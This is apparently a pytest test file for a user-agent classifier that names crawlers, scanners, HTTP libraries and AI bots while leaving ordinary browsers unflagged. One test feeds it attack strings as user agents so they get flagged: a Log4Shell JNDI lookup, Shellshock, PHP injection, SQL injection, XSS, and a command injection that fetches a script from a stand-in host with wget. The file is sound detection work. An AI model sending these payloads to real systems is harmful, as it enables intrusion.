"""Declared robots: the public list is found, people are not."""

from __future__ import annotations

import json
from pathlib import Path

import pytest
from crawleruseragents import CRAWLER_USER_AGENTS_DATA

from pipeline.enrich.labels import Label
from pipeline.enrich.robots import IN_AGENT, NOT_ROBOTS, Robots, name_of

CORPUS = Path(__file__).parents[2] / "../shared/data/ua-corpus/ua.jsonl"
AI_NAMES = CORPUS.parents[1] / "lists/crawlers/ai.robots.json"
ANDROID = (
    "Mozilla/5.0 (Linux; Android 14; {}) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Mobile Safari/537.36"
)


@pytest.fixture(scope="module")
def robots() -> Robots:
    return Robots()


def _name(robots: Robots, agent: str) -> str:
    robot = robots.find(agent)
    return robot.name if robot else ""


@pytest.mark.parametrize(
    ("agent", "name", "category"),
    [
        ("Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)", "Googlebot", Label.ROBOT_SEARCH),
        ("Mozilla/5.0 (compatible; YandexBot/3.0; +http://yandex.com/bots)", "YandexBot", Label.ROBOT_SEARCH),
        ("Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)", "bingbot", Label.ROBOT_SEARCH),
        ("Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; GPTBot/1.2; +https://openai.com/gptbot)", "GPTBot", Label.ROBOT_AI),
        ("Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)", "AhrefsBot", Label.ROBOT_SEO),
        ("Mozilla/5.0 (compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)", "UptimeRobot", Label.ROBOT_MONITOR),
        ("TelegramBot (like TwitterBot)", "TelegramBot", Label.ROBOT_PREVIEW),
        ("Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000001)", "vulnerability scanner", Label.ROBOT_SCANNER),
        ("curl/8.5.0", "curl", Label.HTTP_LIBRARY),
        ("python-requests/2.32.3", "python-requests", Label.HTTP_LIBRARY),
        ("Jakarta Commons-HttpClient/3.1", "unlisted library", Label.HTTP_LIBRARY),
        (
            "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) HeadlessChrome/140.0.0.0 Safari/537.36",
            "HeadlessChrome",
            Label.AUTOMATION,
        ),
        ("ProloThing crawler (index everything)", "unlisted crawler", None),
        ("Some-Unknown-Bot/1.0", "unlisted bot", None),
        ("InnocentName/1.0 (+https://example.org/about)", "agent with a web address", None),
        ("InnocentName/1.0 (someone@example.org)", "agent with an e-mail", None),
        ("InnocentName/1.0", "unlisted program", Label.HTTP_LIBRARY),
        ("Mozilla/5.0 (compatible; InnocentName/1.0)", "unlisted program", Label.HTTP_LIBRARY),
        ("Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; InnocentName/1.0)", "unlisted crawler", None),
        ("Mozilla/4.0 (compatible; MSIE 5.01; InnocentAgent 2.0; Windows NT)", "unlisted agent", None),
        ("Mozilla/5.0 (Windows NT 10.0) Chrome/55.0 Safari/537.36 (via mail.example - mail proxy)", "unlisted proxy", None),
    ],
)  # fmt: skip
def test_a_robot_is_known_by_name_and_category(robots: Robots, agent: str, name: str, category: Label | None) -> None:
    robot = robots.find(agent)
    assert robot is not None
    assert (robot.name, robot.category) == (name, category)


@pytest.mark.parametrize(
    "agent",
    [
        ANDROID.format("Cubot X50"),
        ANDROID.format("CUBOT_P20"),
        ANDROID.format("CPH2557 Build/AP3A.240617.008; wv"),
        ANDROID.format("SM-S918B") + " CamScanner/4.8.5",
        ANDROID.format("SM-S918B; wv") + " MetaIAB Facebook",
        "Mozilla/5.0 (Windows NT 6.1; WOW64; Trident/7.0; Banca Caboto s.p.a.; rv:11.0) like Gecko",
        "fuboTV/4.75.0 (Linux;Android 9; AFTDCT31 Build/PS7664.3772N) FuboPlayer/v1.34.0",
        "Mozilla/4.0 (compatible; MSIE 7.0; Windows NT 5.1; Embedded Web Browser from: http://bsalsa.com/; .NET CLR 2.0)",
        "Mozilla/5.0 (Linux; Android 8.0.0) AppleWebKit/537.36 Chrome/101.0.4951.41 Mobile Safari/537.36 (Ecosia android@101.0.4951.41)",
        "Mozilla/5.0",
        "+Simple Browser",
        "Lynx/2.9.0dev.4 libwww-FM/2.14 SSL-MM/1.4.1 GNUTLS/2.12.23",
        "InnocentApp/24.1 (iPhone; iOS 17.1.2; Scale/3.00)",
        "InnocentApp/2 CFNetwork/1121.2.2 Darwin/19.3.0",
        "InnocentClient/2.0 (win10 x64)",
        "LibWWW/5.0 (Linux; Android 7.0; SM-G950F) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/123.0.0.0 Mobile Safari/537.36",
    ],
)  # fmt: skip
def test_a_persons_browser_is_no_robot(robots: Robots, agent: str) -> None:
    assert _name(robots, agent) == ""


@pytest.mark.parametrize(
    "attack",
    [
        "${jndi:ldap://x.example/a}",
        "() { :; }; /bin/sh -c id",
        '}__test|O:21:"JDatabaseDriverMysqli":3:{s:2:"fc"',
        '<?php system("id"); ?>',
        "' or '1'='1",
        "1 UNION ALL SELECT 1,2",
        "; wget http://x.example/a.sh",
        "<script>alert(1)</script>",
    ],
)
def test_an_attack_in_an_agent_is_named_alone_and_behind_a_browser(robots: Robots, attack: str) -> None:
    for agent in (attack, f"{ANDROID.format('SM-S918B')} {attack}", f"Mozilla/5.0 {attack}"):
        found = robots.find(agent)
        assert found is not None
        assert (found.name, found.category) == (IN_AGENT, Label.ROBOT_SCANNER)


def test_a_robot_on_a_phone_named_cubot_is_still_a_robot(robots: Robots) -> None:
    agent = ANDROID.format("Cubot X50") + " (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"
    assert _name(robots, agent) == "Googlebot"


def test_every_example_of_the_public_list_is_found(robots: Robots) -> None:
    missed = [
        example
        for entry in CRAWLER_USER_AGENTS_DATA
        if entry["pattern"] not in NOT_ROBOTS
        for example in entry["instances"]
        if not _name(robots, example)
    ]
    assert missed == []


def test_the_patterns_left_out_still_exist() -> None:
    assert {entry["pattern"] for entry in CRAWLER_USER_AGENTS_DATA} >= NOT_ROBOTS


def test_a_name_is_readable_and_never_a_regex(robots: Robots) -> None:
    assert [name for name in robots.names if not name or set(name) & set("\\[]^$|*?") or name != name.strip()] == []
    assert [name_of(pattern) for pattern in (r"[wW]get", r"S[eE][mM]rushBot", r"Ahrefs(Bot|SiteAudit)", r"(^| )PTST\/")] == [
        "Wget",
        "SemrushBot",
        "AhrefsBot",
        "PTST",
    ]  # fmt: skip


@pytest.mark.skipif(not CORPUS.exists(), reason="the public user-agent corpus is not beside the checkout")
def test_recall_and_false_alarms_on_the_public_corpus(robots: Robots) -> None:
    found: dict[str, int] = {}
    total: dict[str, int] = {}
    with CORPUS.open(encoding="utf-8") as lines:
        for row in map(json.loads, lines):
            # Agents that the list itself gathered say nothing about what it misses.
            label = "bot, others' lists" if row["label"] == "bot" and "monperrus" not in row["src"] else row["label"]
            total[label] = total.get(label, 0) + 1
            found[label] = found.get(label, 0) + bool(_name(robots, row["ua"]))
    share = {label: found[label] / total[label] for label in total}
    assert share["bot"] == 1.0
    assert share["bot, others' lists"] >= 0.95
    assert found["browser"] <= 0.003 * total["browser"], (
        "a preview, a library and three robots that the corpus calls browsers"
    )
    assert found["app"] == 0


@pytest.mark.skipif(not AI_NAMES.exists(), reason="the public list of AI robots is not beside the checkout")
def test_every_name_of_another_list_is_found_in_each_form_that_names_no_browser(robots: Robots) -> None:
    names = json.loads(AI_NAMES.read_text(encoding="utf-8"))
    forms = (
        "{}/1.0",
        "Mozilla/5.0 (compatible; {}/1.0)",
        "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; {}/1.0)",
    )
    assert len(names) > 100
    assert [name for name in names for form in forms if not _name(robots, form.format(name))] == []
